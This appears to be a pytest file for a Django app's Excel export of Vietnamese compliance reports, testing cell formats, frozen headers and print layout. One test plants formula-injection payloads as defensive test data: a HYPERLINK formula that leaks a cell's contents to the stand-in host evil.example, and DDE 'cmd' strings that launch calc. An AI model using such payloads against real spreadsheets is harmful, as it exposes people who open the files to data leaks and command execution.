"""The Excel workbook: the read layer's figures in typed, formatted cells; headers frozen and
filtered; text from users can never become a formula."""

from __future__ import annotations

import datetime as dt
import io
from decimal import Decimal

import openpyxl
import pytest
from django.utils.timezone import localdate
from openpyxl import Workbook
from openpyxl.utils.exceptions import IllegalCharacterError

from config import vn
from indicators.models import Indicator
from reports.exports.content import report_content
from reports.exports.workbook import Column, Sheet, _figure, safe_text, write_workbook
from reports.submissions.models import IndicatorValue, Submission, TaskUpdate
from tests.conftest import Province
from tests.reports.compliance.dashboard_fixtures import Dashboard, build_dashboard

pytestmark = pytest.mark.django_db


@pytest.fixture
def dash(province: Province) -> Dashboard:
    return build_dashboard(province)


def workbook(dash: Dashboard, area) -> openpyxl.Workbook:
    out = io.BytesIO()
    write_workbook(report_content(directive=dash.directive, period=dash.period, area=area), out)
    return openpyxl.load_workbook(io.BytesIO(out.getvalue()))


def header_row(sheet) -> int:
    """The table's header row: the one printed on every page, below the title block."""
    return int(sheet.print_title_rows.split(":")[0].lstrip("$"))


def rows(sheet) -> list[dict]:
    values = list(sheet.iter_rows(values_only=True))
    header = values[header_row(sheet) - 1]
    body = []
    for row in values[header_row(sheet) :]:
        if not any(v is not None for v in row):
            break  # the context block below the table
        body.append(dict(zip(header, row, strict=True)))
    return body


def test_the_summary_holds_each_targets_value_target_and_verdict(
    dash: Dashboard, province: Province
) -> None:
    sheet = workbook(dash, province.root)["Tổng hợp"]
    found = {(r["Phạm vi"], r["Chỉ tiêu"]): (r["Kết quả"], r["Đánh giá"], r["Đơn vị đạt"])
             for r in rows(sheet)}  # fmt: skip
    assert found == {
        ("Sở, ban, ngành", 0.9): (0.875, "Không đạt", 1),
        ("Cấp huyện", 0.7): (0.75, "Đạt", 2),
        ("Cấp xã", 0.2): (0.1, "Không đạt", 0),
        ("Cấp huyện, Cấp xã", 1): (0.5, "Chưa đến hạn", 2),
    }
    first = header_row(sheet) + 1
    assert sheet[f"F{first}"].number_format == "0.00%"  # a ratio: a fraction as a percentage
    assert sheet[f"E{first + 3}"].number_format == "#,##0"  # a count target: 1 officer, no "1."


@pytest.mark.parametrize(
    ("kind", "value", "shown", "number_format"),
    [
        ("count", "12", 12, "#,##0"),
        ("amount", "1234.5", 1234.5, "#,##0.0#"),
        ("ratio", "98.62", 0.9862, "0.00%"),
    ],
)
def test_figures_show_a_decimal_point_only_with_a_fraction(
    kind: str, value: str, shown: float, number_format: str
) -> None:
    book = Workbook(write_only=True)
    sheet = Sheet(book, "x", [Column("x", 10)])
    cell = _figure(sheet, Decimal(value), Indicator(kind=kind))
    book.save(io.BytesIO())  # a write-only sheet left unsaved complains when collected
    assert (float(cell.value), cell.number_format) == (shown, number_format)


def test_every_sheet_has_a_frozen_filtered_header_row_with_widths_that_fit(
    dash: Dashboard, province: Province
) -> None:
    book = workbook(dash, province.root)
    assert book.sheetnames == [
        "Tổng hợp",
        "Số liệu đơn vị",
        "Tiến độ nhiệm vụ",
        "Tình hình báo cáo",
    ]
    for sheet in book:
        header = header_row(sheet)
        assert header == 8  # below the title block: title, 5 lines of context, a blank row
        assert sheet.freeze_panes == f"C{header + 1}"  # the header and the unit's two columns
        assert sheet.auto_filter.ref.startswith(f"A{header}:")
        assert sheet[f"A{header}"].font.b
    units = book["Số liệu đơn vị"]
    assert units.column_dimensions["B"].width >= len("Sở Thông tin và Truyền thông")
    assert units.auto_filter.ref == f"A8:L{units.max_row}"


def test_the_units_sheet_has_every_units_figure_against_its_target(
    dash: Dashboard, province: Province
) -> None:
    found = {
        (r["Mã đơn vị"], r["Chỉ số"]): r
        for r in rows(workbook(dash, province.root)["Số liệu đơn vị"])
    }
    assert len(found) == 10  # 6 units on the online services ratio, 4 on IT officers
    snv = found[("VP-SNV", "Tỷ lệ dịch vụ công trực tuyến")]
    assert (snv["Tên đơn vị"], snv["Cấp"], snv["Tử số"], snv["Mẫu số"], snv["Giá trị"],
            snv["Chỉ tiêu"], snv["Đạt"]) == ("Sở Nội vụ", "Sở, ban, ngành", 80, 100, 0.8, 0.9,
                                           "Không đạt")  # fmt: skip
    hop_chau = found[("VP-TAMDAO-HOPCHAU", "Cán bộ chuyên trách CNTT")]
    assert (hop_chau["Giá trị"], hop_chau["Đạt"]) == (None, "Chưa báo cáo")  # not accepted
    vinh_yen = found[("VP-VINHYEN", "Cán bộ chuyên trách CNTT")]
    assert (vinh_yen["Giá trị"], vinh_yen["Chỉ tiêu"], vinh_yen["Đạt"]) == (2, 1, "Đạt")


def test_task_progress_and_completeness_sheets(dash: Dashboard, province: Province) -> None:
    book = workbook(dash, province.root)
    tasks = rows(book["Tiến độ nhiệm vụ"])
    assert len(tasks) == 8  # accepted reports only: 5 on task 1, 3 on task 2
    assert {r["Tình hình"] for r in tasks} == {"Đang thực hiện"}
    completeness = {r["Mã đơn vị"]: r for r in rows(book["Tình hình báo cáo"])}
    assert completeness["VP-TAMDAO"]["Gửi muộn"] == "Có"
    assert completeness["VP-TAMDAO-HOPCHAU"]["Báo cáo"] == "Đã gửi"
    assert completeness["VP-STTTT"]["Điểm"] == 1
    sent = Submission.objects.get(
        unit=province.commune, directive=dash.directive, period=dash.period
    )
    assert completeness[province.commune.code]["Ngày gửi"].date() == localdate(sent.submitted_at)
    assert completeness["VP-TAMDAO-HOPCHAU"]["Ngày gửi"] is not None  # sent, not yet accepted


def test_a_malicious_note_stays_inert_text(dash: Dashboard, province: Province) -> None:
    attack = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'
    IndicatorValue.objects.filter(
        submission__unit=province.district, indicator__code="DOCS_ONLINE"
    ).update(note=attack)
    TaskUpdate.objects.filter(submission__unit=province.district, task__number="1").update(
        difficulties="+cmd|' /C calc'!A0", proposals="@SUM(1+1)*cmd|' /C calc'!A0"
    )
    book = workbook(dash, province.root)
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert "'" + attack in texts
    assert "'+cmd|' /C calc'!A0" in texts
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in texts


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_trigger_is_neutralised(start: str) -> None:
    assert safe_text(f"{start}1+1") == f"'{start}1+1"
    assert safe_text("Bình thường 1+1") == "Bình thường 1+1"


def test_a_districts_workbook_covers_its_subtree_only(dash: Dashboard, province: Province) -> None:
    codes = {r["Mã đơn vị"] for r in rows(workbook(dash, province.district)["Số liệu đơn vị"])}
    assert codes == {"VP-VINHYEN", "VP-VINHYEN-LIENBAO"}


def test_every_sheet_prints_as_is_under_its_title_block(
    dash: Dashboard, province: Province
) -> None:
    out = io.BytesIO()
    content = report_content(directive=dash.directive, period=dash.period, area=province.root)
    exported = dt.datetime(2017, 1, 5, 3, 0, tzinfo=dt.UTC)  # 10:00 in Vietnam
    write_workbook(content, out, author="Sở Thông tin và Truyền thông", exported_at=exported)
    book = openpyxl.load_workbook(io.BytesIO(out.getvalue()))
    assert (book.properties.creator, book.properties.lastModifiedBy) == (
        "Sở Thông tin và Truyền thông", "Sở Thông tin và Truyền thông",
    )  # fmt: skip
    period = dash.period
    for sheet in book:
        lines = [sheet.cell(row=r, column=1).value for r in range(1, 7)]
        assert lines[0].isupper() and sheet["A1"].font.b
        assert lines[1] == f"Văn bản: Chỉ thị số {dash.directive.code} — {dash.directive.title}"
        assert lines[2] == (f"Kỳ báo cáo: {period.label} (từ {vn.format_date(period.starts_on)} "
                            f"đến {vn.format_date(period.ends_on)})")  # fmt: skip
        assert lines[3].startswith(f"Phạm vi số liệu: {province.root.name} (toàn tỉnh)")
        assert lines[4] == "Đơn vị phải báo cáo 6, đã gửi 6, đã tiếp nhận 5, gửi muộn 1"
        assert lines[5].startswith("Kết xuất lúc 10:00 ngày 05/01/2017")
        setup = sheet.page_setup
        assert (setup.orientation, int(setup.paperSize)) == ("landscape", 9)  # A4
        assert (setup.fitToWidth, setup.fitToHeight) == (1, 0)  # one page wide, any number long
        assert sheet.sheet_properties.pageSetUpPr.fitToPage
        assert sheet.print_title_rows == "$8:$8"  # the header row on every printed page


def test_yes_no_figures_read_co_or_khong() -> None:
    book = Workbook(write_only=True)
    sheet = Sheet(book, "x", [Column("x", 10)])
    yes, no = (_figure(sheet, Decimal(v), Indicator(kind="boolean")) for v in (1, 0))
    book.save(io.BytesIO())
    assert (yes.value, no.value) == ("Có", "Không")


def test_text_that_looks_like_markup_or_spaces_reads_back_as_written() -> None:
    """Rows are written as XML text (reports/exports/sheets.py): nothing a user types can end
    a cell or start another, and line breaks and edge spaces survive."""
    texts = ["a < b & c > d", '</t></is></c><c r="A1"><f>1+1</f></c>', "  hai dòng\r\nmột  ",
             "#N/A", "=1+1"]  # fmt: skip
    book = Workbook(write_only=True)
    sheet = Sheet(book, "x", [Column("x", 10), Column("y", 10, wrap=True)])
    for text in texts:
        sheet.append([text, text])
    sheet.append([Decimal("80.0000"), dt.date(2017, 1, 3)])
    sheet.close()
    out = io.BytesIO()
    book.save(out)
    ws = openpyxl.load_workbook(io.BytesIO(out.getvalue()))["x"]
    found = [[(c.value, c.data_type) for c in row] for row in ws.iter_rows(min_row=2)]
    assert found[:-1] == [[(safe_text(t), "s")] * 2 for t in texts]
    assert found[-1] == [(80, "n"), (dt.datetime(2017, 1, 3), "d")]
    assert ws.cell(ws.max_row, 2).number_format == "yyyy-mm-dd"  # openpyxl's, for a bare day


def test_a_control_character_is_refused_as_openpyxl_refuses_it() -> None:
    book = Workbook(write_only=True)
    sheet = Sheet(book, "x", [Column("x", 10)])
    with pytest.raises(IllegalCharacterError):
        sheet.append(["chuông\x07"])
    book.save(io.BytesIO())
